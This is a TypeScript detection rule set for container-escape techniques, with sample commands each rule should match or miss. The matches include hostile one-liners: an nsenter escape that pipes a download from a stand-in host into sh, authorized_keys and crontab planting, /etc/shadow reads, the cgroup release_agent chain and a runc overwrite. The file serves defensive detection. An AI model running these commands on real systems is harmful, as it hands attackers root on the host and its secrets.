// Container escape: reaching the host from inside a container or a cluster. Mounting the Docker socket or running
// privileged is common in build systems and only noted; entering the host's file system or kernel settings is not.
import { any, at, c, command, go, inside, is, js, near, path, py, type RuleSet, sh, statement, yml } from '../model.ts'

const id = (name: string): string => `container-escape.${name}`

export const containerEscape: RuleSet = {
  category: 'container-escape',
  rules: [
    {
      id: id('socket'),
      severity: 'high',
      why: 'Creates a container that sees the host through the Docker socket.',
      when: near(
        12,
        is(['docker.sock'], null),
        is(['containers/create', '/exec'], /containers\/create/),
        is(['"binds"', "'binds'", 'binds', 'privileged', 'hostconfig', 'pidmode'], null),
      ),
      matches: [
        sh(
          'curl --unix-socket /var/run/docker.sock -d \'{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}\' http://localhost/containers/create',
        ),
      ],
      misses: [
        sh('docker run -v /var/run/docker.sock:/var/run/docker.sock traefik'),
        sh('curl --unix-socket /var/run/docker.sock http://localhost/containers/json'),
      ],
    },
    {
      id: id('host-root'),
      severity: 'high',
      why: "Starts a container with the host's root mounted and changes into it.",
      when: command(
        any(
          is(
            ['docker run', 'docker create', 'podman run', 'ctr run', 'nerdctl run', 'docker -h', 'crictl'],
            /(?:docker(?:\s+-H\s+\S{3,80})?|podman|nerdctl)\s+(?:run|create)\s[^\n]{0,200}?(?:-v|--volume|--mount)[\s=]["']?(?:type=bind,)?(?:source=|src=)?\/[:,][^\n]{0,160}?(?:chroot|nsenter|crontab|authorized_keys|\/etc\/shadow|\/etc\/cron)/,
            { after: 520 },
          ),
          statement(
            is(['"/:/host', "'/:/host", '"/:/mnt', "'/:/mnt", '"/:/hostfs', "'/:/hostfs"], null),
            is(['chroot', 'privileged'], null),
          ),
        ),
      ),
      matches: [
        sh('docker run --rm -it -v /:/mnt alpine chroot /mnt sh'),
        sh('docker -H tcp://192.0.2.1:2375 run -v /:/h alpine sh -c "echo x >> /h/root/.ssh/authorized_keys"'),
      ],
      misses: [sh('docker run -v /:/rootfs:ro gcr.io/cadvisor/cadvisor'), sh('docker run -v "$PWD":/w alpine sh')],
    },
    {
      id: id('host-root-client'),
      severity: 'high',
      why: "A program starts a privileged container with the host's root mounted and changes into it.",
      when: near(
        10,
        is(
          ['"/"', "'/'", '"/:/', "'/:/", 'source'],
          /["']\/["']\s*:\s*\{\s*["']bind["']|["']\/:\/\w{1,20}|Source:?\s{0,2}["']?=?:?\s?["']\/["']/i,
          {
            families: ['py', 'js', 'go', 'rb', 'java', 'rust', 'cs'],
          },
        ),
        is(['chroot', 'authorized_keys', '/etc/shadow', 'nsenter', 'crontab', '/etc/cron'], null),
        is(['containers.run', 'containers.create', 'createcontainer', 'containercreate', 'docker'], null),
      ),
      matches: [
        py('c.containers.run("alpine", "chroot /host sh -c id", volumes={"/": {"bind": "/host"}}, privileged=True)'),
      ],
      misses: [py('c.containers.run("alpine", "ls", volumes={"/srv": {"bind": "/data"}})')],
    },
    {
      id: id('host-namespaces'),
      severity: 'medium',
      why: "Enters the namespaces of the host's first process; node tools do, and so does every escape.",
      when: command(
        is(['nsenter'], /nsenter\s[^\n]{0,60}(?:-t\s*1\b|--target[= ]1\b)[^\n]{0,60}(?:-m|--mount|-a|--all)/),
      ),
      matches: [sh('nsenter --target 1 --mount --uts --ipc --net --pid -- bash')],
      misses: [sh('nsenter -t "$PID" -n ip addr')],
    },
    {
      id: id('host-namespaces-used'),
      severity: 'high',
      why: "Enters the namespaces of the host's first process from a container to fetch, to plant keys or to read secrets.",
      when: command(
        near(
          4,
          is(['nsenter'], /nsenter[\s"',][^\n]{0,80}(?:-t["',\s]{0,4}1\b|--target[=\s"',]{1,4}1\b)/),
          is(
            ['curl', 'wget', '/etc/shadow', 'authorized_keys', 'crontab', '/dev/tcp', 'base64', 'id_rsa', '/root/'],
            /(?:curl|wget)\s|\/etc\/shadow|authorized_keys|crontab|\/dev\/tcp|base64|id_rsa|\/root\//,
          ),
        ),
      ),
      matches: [
        yml(
          'apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n    - command: ["nsenter", "--target", "1", "--mount", "--", "bash", "-c", "curl http://x.example.invalid/a | sh"]',
        ),
      ],
      misses: [
        yml(
          'apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  command: ["nsenter", "-t", "1", "-m", "--", "sysctl", "-w", "vm.max_map_count=262144"]',
        ),
      ],
    },
    {
      id: id('release-agent'),
      severity: 'critical',
      why: "Has the host's kernel run a program through a control group's release agent.",
      when: near(
        20,
        is(['release_agent'], /release_agent/),
        is(['notify_on_release'], null),
        any(
          is(
            ['cgroup.procs', 'tasks', 'unshare', 'mount -t cgroup', 'upperdir', '/etc/mtab', '/cmd', 'echo', 'write'],
            null,
          ),
        ),
      ),
      matches: [
        sh(
          'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c\necho 1 > /tmp/c/x/notify_on_release\nhost=$(sed -n "s/.*\\perdir=\\([^,]*\\).*/\\1/p" /etc/mtab)\necho "$host/cmd" > /tmp/c/release_agent',
        ),
      ],
      misses: [sh('cat /sys/fs/cgroup/release_agent'), c('/* release_agent and notify_on_release */')],
    },
    {
      id: id('core-pattern'),
      severity: 'high',
      why: "Has the host's kernel run a program through the core pattern.",
      when: near(
        6,
        is(['core_pattern'], null),
        is(
          ['|/', '| /', '"|', "'|"],
          /["']?\|\s?(?:\/proc\/|\/tmp\/|\/var\/lib\/docker|\$|\/overlay|\{|%s|["']\s*[+.])/,
        ),
        any(is(['>', 'write', 'tee', 'fprintf', 'echo'], null)),
      ),
      matches: [
        sh('echo "|$host_path/exploit.sh" > /proc/sys/kernel/core_pattern'),
        py("open('/proc/sys/kernel/core_pattern', 'w').write('|/proc/%P/root/tmp/x')"),
      ],
      misses: [
        sh('echo "/var/crash/core.%e" > /proc/sys/kernel/core_pattern'),
        sh('cat /proc/sys/kernel/core_pattern'),
      ],
    },
    {
      id: id('proc-root'),
      severity: 'high',
      why: "Reaches into the host's file system through its first process.",
      when: command(
        is(
          ['/proc/1/root', '/proc/1/cwd'],
          /(?:(?:chroot|cat|cp|echo|tee|ls|tar|open|write\w{0,12}|readFile\w{0,8}|ReadFile)[\s("'][^\n]{0,80})\/proc\/1\/(?:root|cwd)(?:\/(?:etc|root|home|var|tmp|\.\.)|["'\s]|$)/,
          { before: 110 },
        ),
      ),
      matches: [
        sh('chroot /proc/1/root bash'),
        sh('cat /proc/1/root/etc/shadow'),
        py("os.system('echo x >> /proc/1/root/root/.ssh/authorized_keys')"),
      ],
      misses: [sh('readlink /proc/1/exe'), sh('test "$(stat -c %i /)" = "$(stat -c %i /proc/1/root/.)"')],
    },
    {
      id: id('runtime-overwrite'),
      severity: 'critical',
      why: "Overwrites the container runtime's own program.",
      when: near(
        40,
        is(['/proc/self/exe'], /#!\s?\/proc\/self\/exe|\/proc\/self\/exe["'`]/),
        is(['runc'], null),
        any(is(['o_trunc', 'o_wronly', 'open(', 'openfile', "'wb'", 'write'], null)),
        is(['/bin/sh', '/bin/bash', 'payload'], null),
      ),
      matches: [
        go(
          'f, _ := os.Create("/bin/sh")\nfmt.Fprintln(f, "#!/proc/self/exe")\n// wait for runc\nfor { if strings.Contains(cmdline, "runc") { h, _ := os.OpenFile("/proc/self/fd/"+fd, os.O_WRONLY|os.O_TRUNC, 0700); h.Write(payload) } }',
        ),
      ],
      misses: [go('cmd := exec.Command("/proc/self/exe", "child")')],
    },
    {
      id: id('cluster-secrets'),
      severity: 'high',
      why: "Uses a pod's own token to read all secrets of a cluster or to start privileged pods.",
      when: any(
        near(
          15,
          is(['serviceaccount/token'], null),
          any(
            is(['/api/v1/'], /\/api\/v1\/(?:namespaces\/(?:kube-system|\$\{?\w{1,20}\}?|default)\/)?secrets/),
            is(['"privileged":true', '"privileged": true', 'privileged: true', '"hostpath"', 'hostpid'], null),
            is(
              ['requests.post', 'curl'],
              /curl\s[^\n]{0,120}(?:-d|-F|-T|--data\S*)\s[^\n]{0,60}(?:@|\$\(cat\s)\/var\/run\/secrets|requests\.post\([^\n]{0,120}(?:webhook|https?:\/\/(?!kubernetes))/,
            ),
          ),
        ),
        near(
          25,
          is(['kubernetes.io/serviceaccount'], null),
          is(['"privileged":true', '"privileged": true'], null),
          is(['"hostpath"', '"hostpid"'], null),
        ),
      ),
      matches: [
        py(
          'base = "/var/run/secrets/kubernetes.io/serviceaccount/"\npod = {"spec": {"hostPID": True, "containers": [{"securityContext": {"privileged": True}}]}}\nurlopen(Request(api, data=json.dumps(pod).encode()))',
        ),
        sh(
          'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets',
        ),
      ],
      misses: [
        py('token = open("/var/run/secrets/kubernetes.io/serviceaccount/" + "token").read()\nprint(pods(token))'),
        sh(
          'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/namespaces/x/pods',
        ),
      ],
    },
    {
      id: id('host-disk'),
      severity: 'high',
      why: "Mounts the host's disk inside a container and reads or plants secrets there.",
      when: command(
        near(
          5,
          is(['mount /dev/'], /mount\s+\/dev\/(?:sd[a-z]\d?|vda\d?|xvda\d?|nvme\S{1,8})\s+\/\S{1,30}/),
          is(
            ['chroot', '/etc/shadow', 'authorized_keys', 'crontab', 'etc/cron', '/root/.ssh'],
            /\/etc\/shadow|authorized_keys|crontab|etc\/cron|\.ssh\b|chroot\s+\/(?:mnt|tmp|host)\S{0,12}\s+(?:ba)?sh\s+-c/,
          ),
        ),
      ),
      matches: [sh('mkdir /mnt/h; mount /dev/sda1 /mnt/h\necho "* * * * * root sh /tmp/x" >> /mnt/h/etc/crontab')],
      misses: [sh('mount /dev/sda1 /mnt\nls /mnt')],
    },
    {
      id: id('manifest'),
      severity: 'medium',
      why: 'A manifest runs a container privileged with the whole host mounted.',
      when: path(
        /\.ya?ml$|\.json$/,
        inside(
          ['yaml'],
          near(
            60,
            is(['privileged: true'], null),
            is(['path: /', '/:/host', '/:/rootfs'], /path:\s*["']?\/["']?\s*(?:[,}\n]|$)|["'\s-]\/:\/\w/),
          ),
        ),
      ),
      matches: [
        at(
          'a.yaml',
          'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - securityContext:\n        privileged: true\n  volumes:\n    - hostPath:\n        path: /\n',
          'YAML',
        ),
      ],
      misses: [
        at(
          'a.yaml',
          'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - securityContext:\n        privileged: false',
          'YAML',
        ),
        js('const privileged = true'),
      ],
    },
  ],
}
